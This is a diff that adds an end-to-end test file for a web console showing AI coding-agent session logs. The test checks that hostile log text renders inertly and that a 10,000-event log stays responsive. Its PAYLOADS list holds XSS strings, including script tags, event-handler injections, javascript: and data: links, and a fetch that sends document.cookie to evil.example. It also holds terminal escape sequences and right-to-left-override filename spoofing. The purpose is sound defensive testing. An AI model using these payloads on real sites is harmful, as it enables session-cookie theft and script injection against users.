@@ -1,0 +1,214 @@
+import { join } from "node:path";
+import type { Page } from "playwright-core";
+import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
+
+import type { SessionEvent } from "../../src/domain/event.ts";
+import { scriptTag } from "../../src/demo/model/script.ts";
+import { calling } from "../server/somebody.ts";
+import { addSession, id, prompt, said } from "../server/sessions-run.ts";
+import { cards, entry, press, shownEvents, startSession } from "./cards.ts";
+import { openDesk, type Desk } from "./desk.ts";
+
+/** Logs that mean harm, and logs that are long: nothing in them runs, and the page stays quick. */
+
+const [HOSTILE, LONG] = [id(1), id(2)];
+const EVENTS = 10_000;
+
+/** Sets a mark, or asks for something, wherever it is run. */
+const RUN = "window.harmed=true;fetch('https://evil.example/?'+document.cookie)";
+const PAYLOADS = [
+  `<script>${RUN}</script>`,
+  `<img src=x onerror="${RUN}">`,
+  `<svg onload="${RUN}"></svg>`,
+  `<iframe src="javascript:${RUN}"></iframe>`,
+  `<style>@import url("https://evil.example/x.css")</style><meta http-equiv="refresh" content="0;url=https://evil.example">`,
+  `[click me](javascript:${RUN})`,
+  `[and me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
+  `[me too](vbscript:x) <javascript:${RUN}> [j](java\tscript:alert(1)) [k](&#106;avascript:alert(1))`,
+  `![picture](https://evil.example/pixel.png)`,
+  `"><b onmouseover=${RUN}>`,
+  "\u001b[31mred\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007 \u0000\u0008",
+  "invoice\u202Efdp.exe \u2066hidden\u2069 \u200b",
+];
+const ALL = PAYLOADS.join("\n\n");
+const NESTED = Array.from({ length: 400 }, (_, depth) => `${"  ".repeat(depth)}- level ${String(depth)}`).join("\n");
+const QUOTED = `${"> ".repeat(3_000)}deep ${"[".repeat(5_000)} ${"*a ".repeat(5_000)}`;
+const LINE = "x".repeat(200_000);
+
+const ofTool = (input: object, output: string): SessionEvent[] => {
+  const message = (type: string, content: object) =>
+    ({ type: "message", data: { message: { type, message: { content: [content] } } } }) as SessionEvent;
+  return [
+    message("assistant", { type: "tool_use", id: "toolu_1", name: "Bash", input }),
+    message("user", { type: "tool_result", tool_use_id: "toolu_1", content: output }),
+  ];
+};
+
+let desk: Desk;
+beforeAll(async () => {
+  desk = await openDesk({
+    async seeded(node) {
+      const bad = [ALL, NESTED, QUOTED, LINE, `\`\`\`\n${LINE}\n\`\`\``, `| ${"a | ".repeat(3_000)}`].map(said);
+      const events = [prompt(ALL), ...bad, ...ofTool({ command: ALL }, `${ALL}${"0123456789 ".repeat(100_000)}`)];
+      await addSession(node, HOSTILE, { cwd: `/repo/<b onclick="${RUN}">`, events });
+      const words = (at: number) => said(`Step ${String(at)}: **all** is well in \`file-${String(at)}.ts\`.`);
+      const steps = Array.from({ length: EVENTS - 1 }, (_, at) => words(at + 2));
+      await addSession(node, LONG, { events: [prompt("Take many steps."), ...steps] });
+    },
+  });
+});
+afterEach(async (test) => desk.clear(test));
+afterAll(async () => desk.close());
+
+/** What hostile text has done; [] when it was text. */
+async function harm(page: Page): Promise<string[]> {
+  return page.evaluate<string[]>(`[
+    ...(window.harmed === undefined ? [] : ["something ran"]),
+    ...[...document.querySelectorAll("script, iframe, object, embed, img, style, base, meta[http-equiv], form[action]")]
+      .filter((each) => each.closest("main")).map(({ outerHTML }) => outerHTML),
+    ...[...document.querySelectorAll("main *")].flatMap((each) => [...each.attributes])
+      .filter(({ name, value }) => /^on/.test(name) || (/^(href|src|action)$/.test(name) && !/^(https?:|#|mailto:)/.test(value)))
+      .map(({ name, value }) => name + "=" + value),
+  ]`);
+}
+
+it("what hostile text could do would be seen", async () => {
+  const { page } = await desk.open();
+  await page.getByRole("heading", { level: 1 }).waitFor();
+  expect(await harm(page)).toEqual([]);
+  await page.evaluate(`{
+    const link = document.createElement("a");
+    link.href = "javascript:1";
+    document.querySelector("main").append(link, document.createElement("img"));
+    window.harmed = true;
+  }`);
+  expect(await harm(page)).toEqual(["something ran", "<img>", "href=javascript:1"]);
+});
+
+async function unfoldAll(page: Page): Promise<void> {
+  await page.evaluate('document.querySelectorAll("main details").forEach((each) => { each.open = true; })');
+}
+
+describe("hostile text", () => {
+  it("in a log is text: nothing runs, nothing is asked for, and the page stays quick", async () => {
+    const window = await desk.open({ hash: `#/sessions/${HOSTILE}?event=1` });
+    const { page } = window;
+    await page.getByText("level 0").first().waitFor();
+    await unfoldAll(page);
+    await page.getByText("<script>").first().waitFor();
+    const show = page.getByRole("main").getByRole("button", { name: /^(Show all|Loading…)/ });
+    expect(await show.count()).toBeGreaterThan(3);
+    await expect
+      .poll(async () => {
+        await show
+          .first()
+          .click({ timeout: 1_000 })
+          .catch(() => undefined);
+        return show.count();
+      })
+      .toBe(0);
+    await window.shot("hostile", false);
+    expect(await harm(page)).toEqual([]);
+    // It stands in for all links: none is one that could do harm.
+    await page.getByText("click me").first().click();
+    expect(page.url()).toContain("/console/#/");
+    const began = Date.now();
+    await page.getByRole("link", { name: "Waiting", exact: true }).click();
+    await page.getByRole("heading", { name: "Waiting for people" }).waitFor();
+    expect(Date.now() - began).toBeLessThan(10_000);
+    await page.getByRole("link", { name: "Sessions", exact: true }).click();
+    await page.getByRole("heading", { level: 1, name: "Sessions" }).waitFor();
+    expect(await harm(page)).toEqual([]);
+  });
+
+  it("in what is asked, said and written just now is text, and what would hide is shown", async () => {
+    const { page } = await desk.open();
+    const cwd = desk.world.folder();
+    const question = {
+      question: `${PAYLOADS[1]!} Which?`,
+      header: "<b>Q</b>",
+      multiSelect: false,
+      options: [
+        { label: PAYLOADS[0]!, description: PAYLOADS[5]! },
+        { label: "B", description: ALL },
+      ],
+    };
+    const tools = [
+      // Claude Code itself refuses commands with control characters.
+      { name: "Bash", input: { command: `echo ${PAYLOADS[0]!} ${PAYLOADS[1]!}`, description: ALL } },
+      { name: "Write", input: { file_path: join(cwd, PAYLOADS[9]!), content: ALL } },
+      { name: "AskUserQuestion", input: { questions: [question] } },
+    ];
+    await startSession(page, `${ALL} ${calling(tools)}`, { cwd });
+    const card = cards(page);
+    for (const button of ["Deny…", "Deny…", "Decline…"]) {
+      await card.getByRole("button", { name: button, exact: true }).waitFor();
+      expect(await harm(page)).toEqual([]);
+      if (button === "Deny…") await card.getByText(/202e/i).first().waitFor();
+      await press(card, button);
+      await press(card, button.replace("…", ""));
+    }
+    await entry(page, "Turn done").waitFor();
+    await page.getByLabel("Prompt").fill(scriptTag([{ text: ALL }]));
+    await page.getByRole("button", { name: "Send" }).click();
+    await expect.poll(async () => entry(page, "Turn done").count()).toBe(2);
+    await unfoldAll(page);
+    expect(await harm(page)).toEqual([]);
+    await page.getByRole("link", { name: "Waiting", exact: true }).click();
+    await page.getByRole("heading", { name: "Decided lately" }).waitFor();
+    expect(await harm(page)).toEqual([]);
+  });
+});
+
+describe("a log of 10,000 events", () => {
+  /** More is not drawn, however long one reads. */
+  const MOST_NODES = 8_000;
+  const nodes = async (page: Page) => page.evaluate<number>('document.querySelectorAll("*").length');
+  const first = async (page: Page) => (await shownEvents(page))[0] ?? 0;
+  const last = async (page: Page) => (await shownEvents(page)).at(-1) ?? 0;
+  const where = async (page: Page, eventId: number) =>
+    page.evaluate<number>(`document.querySelector('[data-event="${String(eventId)}"]').getBoundingClientRect().top`);
+
+  it("opens at its end, is read to its start and back, and the page does not grow with it", async () => {
+    const { page } = await desk.open();
+    const began = Date.now();
+    await page.goto(`${desk.http.origin}/console/#/sessions/${LONG}`);
+    await entry(page, `Step ${String(EVENTS)}:`).waitFor();
+    // Far more than it takes: a slow machine is no failure.
+    expect(Date.now() - began).toBeLessThan(20_000);
+    expect(await where(page, EVENTS)).toBeLessThan(900);
+    let most = 0;
+    for (let at = await first(page); at > 1; at = await first(page)) {
+      const ids = await shownEvents(page);
+      expect(ids).toEqual(Array.from({ length: ids.length }, (_, place) => at + place));
+      most = Math.max(most, await nodes(page));
+      await page.evaluate("scrollTo(0, 0)");
+      await expect.poll(async () => first(page)).toBeLessThan(at);
+      // What was in view stays there when more comes before it.
+      expect(await where(page, at)).toBeGreaterThan(-200);
+      expect(await where(page, at)).toBeLessThan(900);
+    }
+    await page.getByText("Take many steps.").last().waitFor();
+    for (let pages = 0; pages < 5; pages++) {
+      const at = await last(page);
+      await page.evaluate("scrollTo(0, document.documentElement.scrollHeight)");
+      await expect.poll(async () => last(page)).toBeGreaterThan(at);
+      most = Math.max(most, await nodes(page));
+      const ids = await shownEvents(page);
+      expect(ids).toEqual(Array.from({ length: ids.length }, (_, place) => ids[0]! + place));
+    }
+    await page.getByRole("button", { name: /^(To the end|New activity)/ }).click();
+    await entry(page, `Step ${String(EVENTS)}:`).waitFor();
+    most = Math.max(most, await nodes(page));
+    expect(most).toBeLessThan(MOST_NODES);
+    await page.getByRole("button", { name: "Go to the start" }).click();
+    await expect.poll(async () => first(page)).toBe(1);
+  });
+
+  it("is opened at an event that the address names", async () => {
+    const { page } = await desk.open({ hash: `#/sessions/${LONG}?event=5000` });
+    await entry(page, "Step 5000:").waitFor();
+    await expect.poll(async () => where(page, 5_000)).toBeGreaterThan(0);
+    expect(await where(page, 5_000)).toBeLessThan(900);
+  });
+});
